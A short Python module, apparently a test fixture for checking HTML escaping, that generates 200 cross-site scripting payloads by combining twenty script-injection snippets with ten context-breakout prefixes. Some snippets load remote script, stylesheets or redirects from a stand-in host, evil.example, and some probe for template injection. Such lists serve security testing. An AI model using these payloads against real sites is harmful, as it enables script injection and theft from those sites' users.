"""Texts that become a script where a page forgets to escape them."""

from collections.abc import Sequence

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
)
_WAYS_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</textarea></title></style>{}",
    "-->{}<!--",
    "';alert(1);//{}",
    '\\";alert(1);//{}\\',
    "<%= 1 %>{}{{{{7*7}}}}${{7*7}}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e{}\u2028",
)

PAYLOADS: Sequence[str] = tuple(way.format(script) for script in _SCRIPTS for way in _WAYS_OUT)
"""200 of them: each of 20 scripts, in each of ten ways out of where a text may stand."""
